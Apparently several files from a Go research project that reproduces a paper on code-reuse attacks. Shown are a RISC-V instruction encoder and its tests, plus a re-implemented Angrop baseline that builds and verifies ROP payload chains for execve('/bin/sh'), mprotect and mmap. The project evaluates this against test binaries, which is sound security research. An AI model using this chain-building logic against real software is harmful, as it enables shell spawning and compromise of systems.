		return rvB(rel, reg(inst.C), reg(inst.B), funct3), nil

	case OpJmp, OpCall, OpJal:
		rd := uint32(0)
		if inst.Op == OpCall {
			rd = uint32(RVRA)
		} else if inst.Op == OpJal {
			rd = reg(inst.B)
		}
		if inst.A.Kind == KindImm { // jal
			rel := inst.A.Imm - int64(pc)
			if rel < -(1<<20) || rel >= 1<<20 || rel&1 != 0 {
				return 0, rvEncodeError("jump target out of range: %#x -> %#x", pc, inst.A.Imm)
			}
			return rvJ(rel, rd), nil
		}
		if inst.Op == OpJal {
			return 0, rvEncodeError("jal needs an immediate target")
		}
		if inst.A.Kind != KindReg {
			return 0, rvEncodeError("bad jump operand")
		}
		off := int64(0)
		if inst.B.Kind == KindImm {
			off = inst.B.Imm
		}
		if !fitsImm12(off) {
			return 0, rvEncodeError("jalr offset %#x out of range", off)
		}
		return rvI(off, reg(inst.A), 0, rd, 0x67), nil

	case OpJalr:
		if inst.A.Kind != KindReg || inst.B.Kind != KindReg {
			return 0, rvEncodeError("bad jalr operands")
		}
		off := int64(0)
		if inst.C.Kind == KindImm {
			off = inst.C.Imm
		}
		if !fitsImm12(off) {
			return 0, rvEncodeError("jalr offset %#x out of range", off)
		}
		return rvI(off, reg(inst.A), 0, reg(inst.B), 0x67), nil

	case OpRet:
		return rvI(0, uint32(RVRA), 0, 0, 0x67), nil // jalr x0, 0(ra)
	}
	return 0, rvEncodeError("unsupported op %s", inst.Op)
}

// rvCondName maps a condition onto the RISC-V branch mnemonic suffix.
func rvCondName(c Cond) string {
	switch c {
	case CondE:
		return "eq"
	case CondNE:
		return "ne"
	case CondL:
		return "lt"
	case CondGE:
		return "ge"
	case CondB:
		return "ltu"
	case CondAE:
		return "geu"
	}
	return c.String()
}

// FormatInst renders the instruction in RISC-V assembly syntax, preferring
// the standard pseudo-instruction forms (li, mv, j, jr, ret).
func (rv64Backend) FormatInst(inst *Inst) string {
	r := func(o Operand) string { return RVRegName(o.Reg) }
	mem := func(o Operand) string { return fmt.Sprintf("%d(%s)", o.Mem.Disp, RVRegName(o.Mem.Base)) }
	imm := func(v int64) string {
		if v >= -9 && v <= 9 {
			return fmt.Sprintf("%d", v)
		}
		if v < 0 {
			return fmt.Sprintf("-0x%x", uint64(-v))
		}
		return fmt.Sprintf("0x%x", uint64(v))
	}

	switch inst.Op {
	case OpNop:
		return "nop"
	case OpSyscall:
		return "ecall"
	case OpInt3:
		return "ebreak"
	case OpAuipc:
		return fmt.Sprintf("auipc %s, 0x%x", r(inst.A), uint32(inst.B.Imm)>>12)
	case OpMov:
		switch {
		case inst.A.Kind == KindReg && inst.B.Kind == KindImm:
			return fmt.Sprintf("li %s, %s", r(inst.A), imm(inst.B.Imm))
		case inst.A.Kind == KindReg && inst.B.Kind == KindReg:
			return fmt.Sprintf("mv %s, %s", r(inst.A), r(inst.B))
		case inst.A.Kind == KindReg && inst.B.Kind == KindMem:
			return fmt.Sprintf("ld %s, %s", r(inst.A), mem(inst.B))
		default:
			op := [9]string{1: "sb", 2: "sh", 4: "sw", 8: "sd"}[inst.opSize()]
			return fmt.Sprintf("%s %s, %s", op, r(inst.B), mem(inst.A))
		}
	case OpLoad, OpLoadU:
		op := [5]string{1: "lb", 2: "lh", 4: "lw"}[inst.Size]
		if inst.Op == OpLoadU {
			op += "u"
		}
		return fmt.Sprintf("%s %s, %s", op, r(inst.A), mem(inst.B))
	case OpBcc:
		return fmt.Sprintf("b%s %s, %s, %s", rvCondName(inst.Cond), r(inst.B), r(inst.C), imm(inst.A.Imm))
	case OpJmp:
		if inst.A.Kind == KindImm {
			return fmt.Sprintf("j %s", imm(inst.A.Imm))
		}
		off := int64(0)
		if inst.B.Kind == KindImm {
			off = inst.B.Imm
		}
		if inst.A.Reg == RVRA && off == 0 {
			return "ret"
		}
		if off == 0 {
			return fmt.Sprintf("jr %s", r(inst.A))
		}
		return fmt.Sprintf("jalr zero, %d(%s)", off, r(inst.A))
	case OpCall:
		if inst.A.Kind == KindImm {
			return fmt.Sprintf("call %s", imm(inst.A.Imm))
		}
		off := int64(0)
		if inst.B.Kind == KindImm {
			off = inst.B.Imm
		}
		return fmt.Sprintf("jalr ra, %d(%s)", off, r(inst.A))
	case OpJal:
		return fmt.Sprintf("jal %s, %s", r(inst.B), imm(inst.A.Imm))
	case OpJalr:
		off := int64(0)
		if inst.C.Kind == KindImm {
			off = inst.C.Imm
		}
		return fmt.Sprintf("jalr %s, %d(%s)", r(inst.B), off, r(inst.A))
	case OpAdd, OpSub, OpAnd, OpOr, OpXor, OpShl, OpShr, OpSar,
		OpSlt, OpSltu, OpImul, OpDiv, OpDivU, OpRem, OpRemU:
		name := inst.Op.String()
		if inst.Op == OpImul {
			name = "mul"
		}
		if inst.Op == OpShl {
			name = "sll"
		}
		if inst.Op == OpShr {
			name = "srl"
		}
		if inst.Op == OpSar {
			name = "sra"
		}
		if inst.C.Kind == KindImm {
			switch inst.Op {
			case OpShl:
				name = "slli"
			case OpShr:
				name = "srli"
			case OpSar:
				name = "srai"
			case OpSlt:
				name = "slti"
			case OpSltu:
				name = "sltiu"
			default:
				name += "i"
			}
			return fmt.Sprintf("%s %s, %s, %s", name, r(inst.A), r(inst.B), imm(inst.C.Imm))
		}
		return fmt.Sprintf("%s %s, %s, %s", name, r(inst.A), r(inst.B), r(inst.C))
	}
	return inst.String()
}
