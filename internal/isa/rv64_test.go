package isa

import "testing"

// TestRV64RoundTrip encodes known instructions and checks decode produces
// the expected canonical forms and formatting.
func TestRV64RoundTrip(t *testing.T) {
	const pc = 0x401000
	cases := []struct {
		inst Inst
		text string
	}{
		{Inst{Op: OpMov, Size: 8, A: RegOp(RVA0), B: ImmOp(42)}, "li a0, 0x2a"},
		{Inst{Op: OpMov, Size: 8, A: RegOp(RVA1), B: RegOp(RVSP)}, "mv a1, sp"},
		{Inst{Op: OpMov, Size: 8, A: RegOp(RVT0), B: MemOp(RVSP, 16)}, "ld t0, 16(sp)"},
		{Inst{Op: OpMov, Size: 8, A: MemOp(RVSP, 8), B: RegOp(RVRA)}, "sd ra, 8(sp)"},
		{Inst{Op: OpMov, Size: 4, A: MemOp(RVA0, -4), B: RegOp(RVA1)}, "sw a1, -4(a0)"},
		{Inst{Op: OpMov, Size: 1, A: MemOp(RVA0, 0), B: RegOp(RVZero)}, "sb zero, 0(a0)"},
		{Inst{Op: OpLoad, Size: 4, A: RegOp(RVA0), B: MemOp(RVS0, -32)}, "lw a0, -32(s0)"},
		{Inst{Op: OpLoadU, Size: 1, A: RegOp(RVT1), B: MemOp(RVA2, 3)}, "lbu t1, 3(a2)"},
		{Inst{Op: OpAdd, Size: 8, A: RegOp(RVA0), B: RegOp(RVA1), C: RegOp(RVA2)}, "add a0, a1, a2"},
		{Inst{Op: OpAdd, Size: 8, A: RegOp(RVSP), B: RegOp(RVSP), C: ImmOp(-32)}, "addi sp, sp, -0x20"},
		{Inst{Op: OpSub, Size: 8, A: RegOp(RVT0), B: RegOp(RVT1), C: RegOp(RVT2)}, "sub t0, t1, t2"},
		{Inst{Op: OpShl, Size: 8, A: RegOp(RVA0), B: RegOp(RVA0), C: ImmOp(3)}, "slli a0, a0, 3"},
		{Inst{Op: OpSar, Size: 8, A: RegOp(RVA0), B: RegOp(RVA0), C: ImmOp(63)}, "srai a0, a0, 0x3f"},
		{Inst{Op: OpSlt, Size: 8, A: RegOp(RVA0), B: RegOp(RVA1), C: RegOp(RVA2)}, "slt a0, a1, a2"},
		{Inst{Op: OpSltu, Size: 8, A: RegOp(RVA0), B: RegOp(RVA1), C: ImmOp(1)}, "sltiu a0, a1, 1"},
		{Inst{Op: OpImul, Size: 8, A: RegOp(RVA0), B: RegOp(RVA1), C: RegOp(RVA2)}, "mul a0, a1, a2"},
		{Inst{Op: OpDiv, Size: 8, A: RegOp(RVA0), B: RegOp(RVA1), C: RegOp(RVA2)}, "div a0, a1, a2"},
		{Inst{Op: OpRemU, Size: 8, A: RegOp(RVA0), B: RegOp(RVA1), C: RegOp(RVA2)}, "remu a0, a1, a2"},
		{Inst{Op: OpBcc, Cond: CondE, Size: 8, A: ImmOp(pc + 16), B: RegOp(RVA0), C: RegOp(RVZero)}, "beq a0, zero, 0x401010"},
		{Inst{Op: OpBcc, Cond: CondB, Size: 8, A: ImmOp(pc - 8), B: RegOp(RVT0), C: RegOp(RVT1)}, "bltu t0, t1, 0x400ff8"},
		{Inst{Op: OpJmp, Size: 8, A: ImmOp(pc + 0x800)}, "j 0x401800"},
		{Inst{Op: OpCall, Size: 8, A: ImmOp(pc - 0x400)}, "call 0x400c00"},
		{Inst{Op: OpJmp, Size: 8, A: RegOp(RVRA), B: ImmOp(0)}, "ret"},
		{Inst{Op: OpJmp, Size: 8, A: RegOp(RVT0), B: ImmOp(0)}, "jr t0"},
		{Inst{Op: OpCall, Size: 8, A: RegOp(RVT1), B: ImmOp(8)}, "jalr ra, 8(t1)"},
		{Inst{Op: OpAuipc, Size: 8, A: RegOp(RVA0), B: ImmOp(0x2000)}, "auipc a0, 0x2"},
		{Inst{Op: OpSyscall}, "ecall"},
		{Inst{Op: OpNop}, "nop"},
	}
	for _, tc := range cases {
		enc, err := RV64.Encode(tc.inst, pc)
		if err != nil {
			t.Fatalf("encode %+v: %v", tc.inst, err)
		}
		if len(enc) != 4 {
			t.Fatalf("encode %+v: got %d bytes", tc.inst, len(enc))
		}
		dec, err := RV64.Decode(enc, pc)
		if err != nil {
			t.Fatalf("decode %x (%+v): %v", enc, tc.inst, err)
		}
		if got := RV64.FormatInst(&dec); got != tc.text {
			t.Errorf("decode %x: format %q, want %q", enc, got, tc.text)
		}
		enc2, err := RV64.Encode(dec, pc)
		if err != nil {
			t.Fatalf("re-encode %x: %v", enc, err)
		}
		if string(enc) != string(enc2) {
			t.Errorf("unstable encode: %x vs %x", enc, enc2)
		}
	}
}

// TestRV64Alignment checks the stride/alignment rules that create the
// aligned-decode gadget-surface difference.
func TestRV64Alignment(t *testing.T) {
	// ret encoded at an aligned address.
	code := []byte{0x67, 0x80, 0x00, 0x00}
	if _, err := RV64.Decode(code, 0x401002); err == nil {
		t.Fatal("rv64: expected misaligned decode to fail at +2")
	}
	if _, err := RV64C.Decode(code, 0x401002); err != nil {
		t.Fatalf("rv64c: halfword-aligned decode should be allowed: %v", err)
	}
	if _, err := RV64C.Decode(code, 0x401001); err == nil {
		t.Fatal("rv64c: expected odd-address decode to fail")
	}
	// A compressed halfword decodes only under the C backend.
	cj := []byte{0x82, 0x80} // c.jr ra
	if _, err := RV64.Decode(cj, 0x401000); err == nil {
		t.Fatal("rv64: compressed decode without C should fail")
	}
	inst, err := RV64C.Decode(cj, 0x401000)
	if err != nil {
		t.Fatalf("rv64c: c.jr ra: %v", err)
	}
	if RV64C.Classify(&inst) != ClassRet {
		t.Fatalf("c.jr ra should classify as ret, got %s", RV64C.Classify(&inst))
	}
	if inst.Len != 2 {
		t.Fatalf("compressed Len = %d, want 2", inst.Len)
	}
}

// TestRV64Classify pins the boundary classification.
func TestRV64Classify(t *testing.T) {
	cases := []struct {
		code []byte
		want Class
	}{
		{[]byte{0x67, 0x80, 0x00, 0x00}, ClassRet},     // jalr x0, 0(ra)
		{[]byte{0x67, 0x00, 0x03, 0x00}, ClassJmpInd},  // jr t1
		{[]byte{0x67, 0x80, 0x80, 0x00}, ClassJmpInd},  // jalr x0, 8(ra): offset != 0
		{[]byte{0xE7, 0x80, 0x00, 0x00}, ClassCallInd}, // jalr ra, 0(ra)
		{[]byte{0x73, 0x00, 0x00, 0x00}, ClassSyscall},
		{[]byte{0x73, 0x00, 0x10, 0x00}, ClassTrap},    // ebreak
		{[]byte{0x6F, 0x00, 0x40, 0x00}, ClassJmpDir},  // jal x0, +4
		{[]byte{0xEF, 0x00, 0x40, 0x00}, ClassCallDir}, // jal ra, +4
		{[]byte{0x63, 0x08, 0xB5, 0x00}, ClassCondBr},  // beq
		{[]byte{0x33, 0x85, 0xC5, 0x00}, ClassOther},   // add
	}
	for _, tc := range cases {
		inst, err := RV64.Decode(tc.code, 0x401000)
		if err != nil {
			t.Fatalf("decode %x: %v", tc.code, err)
		}
		if got := RV64.Classify(&inst); got != tc.want {
			t.Errorf("classify %x (%s): got %s want %s", tc.code, RV64.FormatInst(&inst), got, tc.want)
		}
	}
}
