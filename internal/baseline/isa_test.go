package baseline_test

import (
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/baseline"
	"github.com/nofreelunch/gadget-planner/internal/baseline/angrop"
	"github.com/nofreelunch/gadget-planner/internal/baseline/ropgadget"
	"github.com/nofreelunch/gadget-planner/internal/baseline/sgc"
	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
)

// TestBaselinesOnRV64 runs every baseline tool against an RV64 binary
// through the backend classification hooks. ROPGadget and Angrop are
// x86-64-template tools: they must degrade gracefully (report syntactic
// counts, produce no chains) rather than misdecode. SGC shares the
// planner's backend-neutral machinery and must find chains.
func TestBaselinesOnRV64(t *testing.T) {
	p, ok := benchprog.ByName("crc")
	if !ok {
		t.Fatal("crc benchmark missing")
	}
	bin, err := benchprog.BuildISA(p, obfuscate.LLVMObf(), 42, "rv64")
	if err != nil {
		t.Fatal(err)
	}

	for _, tool := range []baseline.Tool{&ropgadget.Tool{}, &angrop.Tool{}} {
		res := tool.Run(bin)
		if res.GadgetsTotal == 0 {
			t.Errorf("%s: zero syntactic gadget count on rv64", res.ToolName)
		}
		if len(res.Chains) != 0 {
			t.Errorf("%s: unexpected chains on rv64 (x86-template tool)", res.ToolName)
		}
	}

	res := (&sgc.Tool{}).Run(bin)
	if res.GadgetsTotal == 0 {
		t.Fatal("SGC: zero gadget count on rv64")
	}
	verified := 0
	for _, c := range res.Chains {
		if c.Verified {
			verified++
		}
	}
	if verified == 0 {
		t.Errorf("SGC: no verified chains on rv64 (total=%d)", res.GadgetsTotal)
	}
}
