// Package baseline defines the shared interface of the re-implemented
// comparison tools (paper Section II-B): ROPGadget (syntactic pattern
// matching), Angrop (semantic matching over return gadgets), and SGC
// (solver-backed synthesis). Each is implemented with the limitations the
// paper attributes to it, so the evaluation measures the same algorithmic
// gaps the paper reports.
package baseline

import (
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

// Chain is one payload chain a tool built.
type Chain struct {
	Goal    string
	Gadgets []*gadget.Gadget
	// Verified reports whether the chain survived emulator validation.
	Verified bool
}

// Result is a tool's outcome on one binary.
type Result struct {
	// ToolName identifies the tool.
	ToolName string
	// GadgetsTotal is the tool's collected gadget-pool size.
	GadgetsTotal int
	// GadgetsUsed counts distinct gadgets appearing in built chains.
	GadgetsUsed int
	// Chains lists verified payload chains.
	Chains []Chain
}

// PayloadsFor counts verified chains toward one goal.
func (r *Result) PayloadsFor(goal string) int {
	n := 0
	for _, c := range r.Chains {
		if c.Goal == goal && c.Verified {
			n++
		}
	}
	return n
}

// TotalPayloads counts all verified chains.
func (r *Result) TotalPayloads() int {
	n := 0
	for _, c := range r.Chains {
		if c.Verified {
			n++
		}
	}
	return n
}

// countUsed fills GadgetsUsed from Chains.
func (r *Result) countUsed() {
	seen := make(map[*gadget.Gadget]bool)
	for _, c := range r.Chains {
		if !c.Verified {
			continue
		}
		for _, g := range c.Gadgets {
			seen[g] = true
		}
	}
	r.GadgetsUsed = len(seen)
}

// FillUsed exposes countUsed to the tool implementations.
func (r *Result) FillUsed() { r.countUsed() }

// Tool is a code-reuse chain builder under comparison.
type Tool interface {
	Name() string
	Run(bin *sbf.Binary) *Result
}
