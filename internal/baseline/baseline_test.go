package baseline_test

import (
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/asm"
	"github.com/nofreelunch/gadget-planner/internal/baseline"
	"github.com/nofreelunch/gadget-planner/internal/baseline/angrop"
	"github.com/nofreelunch/gadget-planner/internal/baseline/ropgadget"
	"github.com/nofreelunch/gadget-planner/internal/baseline/sgc"
	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

// idealBin has every template gadget the classic tools need.
func idealBin(t *testing.T) *sbf.Binary {
	t.Helper()
	src := `
    pop rax
    ret
    pop rdi
    ret
    pop rsi
    ret
    pop rdx
    ret
    mov qword [rdi], rsi
    ret
    syscall
    ret
`
	r, err := asm.Assemble(src, 0x401000)
	if err != nil {
		t.Fatal(err)
	}
	bin := sbf.New()
	bin.AddSection(sbf.Section{Name: ".text", Addr: 0x401000, Flags: sbf.FlagRead | sbf.FlagExec, Data: r.Code})
	bin.AddSection(sbf.Section{Name: ".data", Addr: 0x601000, Flags: sbf.FlagRead | sbf.FlagWrite, Data: make([]byte, 256)})
	return bin
}

func TestROPGadgetOnIdealBinary(t *testing.T) {
	res := (&ropgadget.Tool{}).Run(idealBin(t))
	if res.GadgetsTotal == 0 {
		t.Error("no gadgets counted")
	}
	if res.PayloadsFor("execve") != 1 {
		t.Errorf("execve payloads = %d, want 1 (template complete)", res.PayloadsFor("execve"))
	}
	if res.PayloadsFor("mprotect") != 0 {
		t.Error("ROPGadget only builds execve chains")
	}
	if res.GadgetsUsed == 0 {
		t.Error("used gadgets not tracked")
	}
}

func TestROPGadgetFailsWithoutTemplate(t *testing.T) {
	// Remove pop rax: the hard-coded template must fail completely.
	src := "pop rdi; ret; pop rsi; ret; pop rdx; ret; mov qword [rdi], rsi; ret; syscall"
	r, err := asm.Assemble(src, 0x401000)
	if err != nil {
		t.Fatal(err)
	}
	bin := sbf.New()
	bin.AddSection(sbf.Section{Name: ".text", Addr: 0x401000, Flags: sbf.FlagRead | sbf.FlagExec, Data: r.Code})
	bin.AddSection(sbf.Section{Name: ".data", Addr: 0x601000, Flags: sbf.FlagRead | sbf.FlagWrite, Data: make([]byte, 64)})
	res := (&ropgadget.Tool{}).Run(bin)
	if res.TotalPayloads() != 0 {
		t.Errorf("payloads = %d without pop rax", res.TotalPayloads())
	}
}

func TestAngropOnIdealBinary(t *testing.T) {
	res := (&angrop.Tool{}).Run(idealBin(t))
	if res.PayloadsFor("execve") != 1 {
		t.Errorf("execve = %d", res.PayloadsFor("execve"))
	}
	if res.PayloadsFor("mprotect") != 1 {
		t.Errorf("mprotect = %d", res.PayloadsFor("mprotect"))
	}
	// mmap needs r10: no setter exists.
	if res.PayloadsFor("mmap") != 0 {
		t.Errorf("mmap = %d", res.PayloadsFor("mmap"))
	}
}

func TestSGCOnIdealBinary(t *testing.T) {
	res := (&sgc.Tool{}).Run(idealBin(t))
	if res.PayloadsFor("execve") == 0 {
		t.Error("SGC found no execve chain on the ideal binary")
	}
}

// TestToolOrderingOnCompiledBinary is the Table IV shape: ROPGadget <=
// Angrop <= SGC <= Gadget-Planner on a real compiled, obfuscated program.
func TestToolOrderingOnCompiledBinary(t *testing.T) {
	p, _ := benchprog.ByName("crc")
	bin, err := benchprog.Build(p, obfuscate.LLVMObf(), 42)
	if err != nil {
		t.Fatal(err)
	}
	rg := (&ropgadget.Tool{}).Run(bin).TotalPayloads()
	ag := (&angrop.Tool{}).Run(bin).TotalPayloads()
	sg := (&sgc.Tool{}).Run(bin).TotalPayloads()
	if rg > ag || ag > sg {
		t.Errorf("tool ordering violated: RG=%d Angrop=%d SGC=%d", rg, ag, sg)
	}
	if sg == 0 {
		t.Error("SGC found nothing on an obfuscated binary")
	}
	t.Logf("RG=%d Angrop=%d SGC=%d", rg, ag, sg)
}

func TestResultHelpers(t *testing.T) {
	r := &baseline.Result{ToolName: "x"}
	r.Chains = append(r.Chains,
		baseline.Chain{Goal: "execve", Verified: true},
		baseline.Chain{Goal: "execve", Verified: false},
		baseline.Chain{Goal: "mprotect", Verified: true},
	)
	if r.PayloadsFor("execve") != 1 || r.TotalPayloads() != 2 {
		t.Errorf("helpers wrong: %d %d", r.PayloadsFor("execve"), r.TotalPayloads())
	}
}
