package angrop

import (
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/asm"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
	"github.com/nofreelunch/gadget-planner/internal/symex"
)

func TestClassification(t *testing.T) {
	src := `
    pop rax
    ret
    pop rdi
    ret
    pop rsi
    ret
    pop rdx
    ret
    mov qword [rdi], rsi
    ret
    syscall
    ret
`
	r, err := asm.Assemble(src, 0x401000)
	if err != nil {
		t.Fatal(err)
	}
	bin := sbf.New()
	bin.AddSection(sbf.Section{Name: ".text", Addr: 0x401000, Flags: sbf.FlagRead | sbf.FlagExec, Data: r.Code})

	pool := gadget.Extract(bin, gadget.Options{MaxInsts: 8, MaxForks: 1, MaxMerges: 1})
	nSetters, nWriters, nAnchors := 0, 0, 0
	for _, g := range pool.Gadgets {
		eff := g.Effect
		if g.HasCond || g.Merged || len(eff.Conds) > 0 {
			continue
		}
		switch eff.End {
		case symex.EndSyscall:
			if !eff.HasDerefs() {
				nAnchors++
			}
		case symex.EndRet:
			if !eff.HasDerefs() && len(g.CtrlRegs) > 0 {
				nSetters++
			}
			if len(eff.MemWrites) == 1 && len(eff.MemReads) == 0 {
				w := eff.MemWrites[0]
				aReg, okA := regVarOf(pool.Builder, w.Addr)
				vReg, okV := regVarOf(pool.Builder, w.Val)
				t.Logf("writer candidate %s: addr=%s(%v %v) val=%s(%v %v) size=%d aligned=%v",
					g, w.Addr, aReg, okA, w.Val, vReg, okV, w.Size, alignedInputs(eff))
				nWriters++
			}
		}
	}
	t.Logf("setters=%d writers=%d anchors=%d", nSetters, nWriters, nAnchors)
	if nSetters == 0 || nAnchors == 0 {
		t.Error("classification found nothing")
	}
	_ = isa.RAX
}

func TestRunOnGadgetRichBinary(t *testing.T) {
	src := `
    pop rax
    ret
    pop rdi
    ret
    pop rsi
    ret
    pop rdx
    ret
    mov qword [rdi], rsi
    ret
    syscall
    ret
`
	r, _ := asm.Assemble(src, 0x401000)
	bin := sbf.New()
	bin.AddSection(sbf.Section{Name: ".text", Addr: 0x401000, Flags: sbf.FlagRead | sbf.FlagExec, Data: r.Code})
	bin.AddSection(sbf.Section{Name: ".data", Addr: 0x601000, Flags: sbf.FlagRead | sbf.FlagWrite, Data: make([]byte, 256)})
	res := (&Tool{}).Run(bin)
	if res.PayloadsFor("execve") != 1 || res.PayloadsFor("mprotect") != 1 {
		t.Errorf("execve=%d mprotect=%d, want 1/1",
			res.PayloadsFor("execve"), res.PayloadsFor("mprotect"))
	}
	for _, c := range res.Chains {
		if c.Verified && len(c.Gadgets) == 0 {
			t.Error("verified chain without gadgets")
		}
	}
}
