// Package angrop re-implements the Angrop baseline (paper Section II-B):
// symbolic classification of return gadgets only, a fixed register-setting
// strategy ("it only uses pop reg; ret to assign a value to registers
// regardless of all other equivalent gadget variants"), memory writes
// through simple mov-store gadgets, and no conditional or direct-jump
// handling.
package angrop

import (
	"encoding/binary"
	"sort"

	"github.com/nofreelunch/gadget-planner/internal/baseline"
	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/planner"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
	"github.com/nofreelunch/gadget-planner/internal/symex"
)

// Tool is the Angrop baseline.
type Tool struct{}

var _ baseline.Tool = (*Tool)(nil)

// Name implements baseline.Tool.
func (*Tool) Name() string { return "Angrop" }

// popGadget is a classified pop-style register setter.
type popGadget struct {
	g   *gadget.Gadget
	reg isa.Reg
	// slotOff is the payload offset (from gadget entry rsp) feeding reg.
	slotOff int64
	// ripOff is the payload offset holding the next chain address.
	ripOff int64
}

// writerGadget is a "mov [rX], rY; ret" style store.
type writerGadget struct {
	g       *gadget.Gadget
	addrReg isa.Reg
	valReg  isa.Reg
	ripOff  int64
}

// Run implements baseline.Tool.
func (t *Tool) Run(bin *sbf.Binary) *baseline.Result {
	res := &baseline.Result{ToolName: t.Name()}
	be, okBE := isa.ByName(bin.ISA)
	if !okBE {
		return res
	}
	res.GadgetsTotal = gadget.CountISA(bin, 8, be)[gadget.TypeReturn]

	pool := gadget.Extract(bin, gadget.Options{ISA: bin.ISA, MaxInsts: 8, MaxForks: 1, MaxMerges: 1})
	b := pool.Builder

	// Classify pop-style setters: ret gadgets whose effect on one register
	// is a pure payload slot, with no conditions, merges, or dereferences.
	setters := make(map[isa.Reg][]popGadget)
	var writers []writerGadget
	var anchors []*gadget.Gadget

	for _, g := range pool.Gadgets {
		eff := g.Effect
		if g.HasCond || g.Merged || len(eff.Conds) > 0 {
			continue
		}
		switch eff.End {
		case symex.EndSyscall:
			if !eff.HasDerefs() {
				anchors = append(anchors, g)
			}
			continue
		case symex.EndRet:
		default:
			continue // angrop: return gadgets only
		}
		ripOff, ok := stackVarOffset(eff.NextRIP)
		if !ok || ripOff%8 != 0 {
			continue
		}
		if !alignedInputs(eff) {
			continue
		}
		switch {
		case !eff.HasDerefs():
			for _, r := range g.CtrlRegs {
				if off, ok := stackVarOffset(eff.Regs[r]); ok && off%8 == 0 {
					setters[r] = append(setters[r], popGadget{g: g, reg: r, slotOff: off, ripOff: ripOff})
				}
			}
		case len(eff.MemWrites) == 1 && len(eff.MemReads) == 0:
			w := eff.MemWrites[0]
			aReg, okA := regVarOf(b, w.Addr)
			vReg, okV := regVarOf(b, w.Val)
			if okA && okV && aReg != vReg && w.Size == 8 && cleanRegs(b, g) {
				writers = append(writers, writerGadget{g: g, addrReg: aReg, valReg: vReg, ripOff: ripOff})
			}
		}
	}
	for r := range setters {
		sort.Slice(setters[r], func(i, j int) bool {
			a, c := setters[r][i], setters[r][j]
			if len(a.g.ClobRegs) != len(c.g.ClobRegs) {
				return len(a.g.ClobRegs) < len(c.g.ClobRegs)
			}
			return a.g.Location < c.g.Location
		})
	}
	sort.Slice(anchors, func(i, j int) bool {
		if len(anchors[i].ClobRegs) != len(anchors[j].ClobRegs) {
			return len(anchors[i].ClobRegs) < len(anchors[j].ClobRegs)
		}
		return anchors[i].NumInsts() < anchors[j].NumInsts()
	})

	for _, goal := range planner.GoalsForISA(pool.ISA) {
		if chain, ok := t.buildChain(bin, b, be, goal, setters, writers, anchors); ok {
			res.Chains = append(res.Chains, chain)
		}
	}
	res.FillUsed()
	return res
}

// buildChain implements angrop's fixed strategy: set each goal register via
// a pop gadget (writing "/bin/sh" to .data first when a pointer is needed),
// then fire the syscall gadget.
func (t *Tool) buildChain(bin *sbf.Binary, b *expr.Builder, be isa.Backend, goal planner.Goal,
	setters map[isa.Reg][]popGadget, writers []writerGadget, anchors []*gadget.Gadget) (baseline.Chain, bool) {

	chain := baseline.Chain{Goal: goal.Name}

	// Resolve goal register values; pointers go through a .data write
	// staged by a separate pre-chain (its own register values must not
	// leak into the final goal assignments).
	goalVals := make(map[isa.Reg]uint64)
	type preStep struct {
		set popGadget
		val uint64
	}
	var pre []preStep
	var preWriter *writerGadget
	data := bin.Section(".data")
	for r, spec := range goal.Regs {
		switch spec.Kind {
		case planner.SpecConst:
			goalVals[r] = spec.Value
		case planner.SpecPointer:
			if data == nil || len(writers) == 0 || len(spec.Data) > 8 {
				return chain, false
			}
			addr := data.End() - 16
			w := writers[0]
			aSet := pickSetter(setters, w.addrReg)
			vSet := pickSetter(setters, w.valReg)
			if aSet == nil || vSet == nil {
				return chain, false
			}
			var word [8]byte
			copy(word[:], spec.Data)
			pre = append(pre,
				preStep{set: *aSet, val: addr},
				preStep{set: *vSet, val: binary.LittleEndian.Uint64(word[:])},
			)
			preWriter = &w
			goalVals[r] = addr
		}
	}

	// Find an anchor that leaves every goal register untouched.
	var anchor *gadget.Gadget
	for _, a := range anchors {
		ok := true
		for r := range goal.Regs {
			if int(r) >= len(a.Effect.Regs) ||
				a.Effect.Regs[r] != b.Var(symex.RegVarNameOn(be, r), 64) {
				ok = false
				break
			}
		}
		if ok {
			anchor = a
			break
		}
	}
	if anchor == nil {
		return chain, false
	}

	// One setter per goal register; order them so no setter clobbers an
	// already-set register (try all permutations; angrop's set_regs solves
	// an equivalent dependency problem).
	var regs []isa.Reg
	for r := range goal.Regs {
		regs = append(regs, r)
	}
	sort.Slice(regs, func(i, j int) bool { return regs[i] < regs[j] })
	var chosen []popGadget
	for _, r := range regs {
		s := pickSetter(setters, r)
		if s == nil {
			return chain, false
		}
		chosen = append(chosen, *s)
	}
	ordered, ok := orderSetters(chosen)
	if !ok {
		return chain, false
	}

	// Assemble: [/bin/sh write] + setters + syscall.
	payloadSteps := make([]payloadStep, 0, len(pre)+len(ordered)+2)
	for _, s := range pre {
		payloadSteps = append(payloadSteps, payloadStep{g: s.set.g, slotOff: s.set.slotOff, ripOff: s.set.ripOff, val: s.val})
	}
	if preWriter != nil {
		payloadSteps = append(payloadSteps, payloadStep{g: preWriter.g, slotOff: -1, ripOff: preWriter.ripOff})
	}
	for _, s := range ordered {
		payloadSteps = append(payloadSteps, payloadStep{g: s.g, slotOff: s.slotOff, ripOff: s.ripOff, val: goalVals[s.reg]})
	}
	payloadSteps = append(payloadSteps, payloadStep{g: anchor, slotOff: -1, ripOff: -1})

	bytes, ok := buildPayload(payloadSteps)
	if !ok {
		return chain, false
	}
	if !baseline.VerifyBytes(bin, bytes, goal) {
		return chain, false
	}
	chain.Verified = true
	for _, s := range payloadSteps {
		chain.Gadgets = append(chain.Gadgets, s.g)
	}
	return chain, true
}

// payloadStep is one gadget with its slot assignment.
type payloadStep struct {
	g       *gadget.Gadget
	slotOff int64 // offset of the value slot (-1 if none)
	ripOff  int64 // offset of the next-address slot (-1 for the final anchor)
	val     uint64
}

// buildPayload lays the chain words out: each gadget's entry rsp advances by
